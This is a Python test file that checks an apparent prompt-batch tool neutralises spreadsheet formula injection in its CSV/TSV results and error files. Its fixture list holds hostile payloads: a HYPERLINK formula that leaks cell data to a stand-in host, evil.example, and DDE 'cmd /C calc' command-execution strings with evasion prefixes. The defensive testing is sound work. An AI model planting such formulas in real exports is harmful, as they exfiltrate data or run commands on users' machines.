"""Files that a spreadsheet may open hold no formula, whoever wrote it: the file's author, a model or a provider."""

from __future__ import annotations

import csv
import io

import pytest

from promptmill.domain.completion import Completion, Usage
from promptmill.domain.errors import RecordRefusedError
from tests.fakes.model_provider import FakeModels
from tests.unit.attacks.house import House

FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)
RUNS = ("=", "+", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff20")
ROUTE = "openai/gpt-6-luna"
USAGE = Usage(21, output_total=9)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_results_and_errors_is_a_formula(house: House, separator: str) -> None:
    written = io.StringIO(newline="")
    rows = csv.writer(written, delimiter=separator)
    rows.writerow(["=id", "text", "-5"])
    for formula in FORMULAS:
        rows.writerow([formula, formula, "-5"])
        rows.writerow(["harmless", "+49 (30) 123-45", "-5"])
    answers = [Completion(f"{formula}", "stop", USAGE, model=formula) for formula in FORMULAS]
    refusals = [RecordRefusedError("filtered", formula, status=400) for formula in FORMULAS]
    house.models = FakeModels({ROUTE: [step for pair in zip(answers, refusals, strict=True) for step in pair]})
    name = "a.tsv" if separator == "\t" else "a.csv"

    status = house.run_file(name, written.getvalue().encode())

    assert (status["records"]["answered"], status["records"]["failed"]) == (len(FORMULAS), len(FORMULAS))
    for of in ("results", "errors"):
        data = house.file(name, of).decode("utf-8-sig")
        found = [cell for row in csv.reader(io.StringIO(data, newline=""), delimiter=separator) for cell in row]
        assert not [cell for cell in found if cell.startswith(RUNS) and cell != "+49 (30) 123-45"]
        assert not [cell for cell in found if cell.startswith("-") and cell != "-5"]
        assert "-5" in found


def test_the_errors_file_of_formulas_asks_the_same_when_it_is_dropped_again(house: House) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerows([["text"], *([formula] for formula in FORMULAS)])
    refusals = [RecordRefusedError("filtered", status=400)] * len(FORMULAS)
    house.models = FakeModels({ROUTE: refusals})
    house.run_file("a.csv", written.getvalue().encode())
    first = [request.messages for request in house.models.requests]
    errors = house.file("a.csv", "errors")
    house.models = FakeModels()
    assert house.run_file("again.csv", errors)["records"]["answered"] == len(FORMULAS)
    assert [request.messages for request in house.models.requests] == first
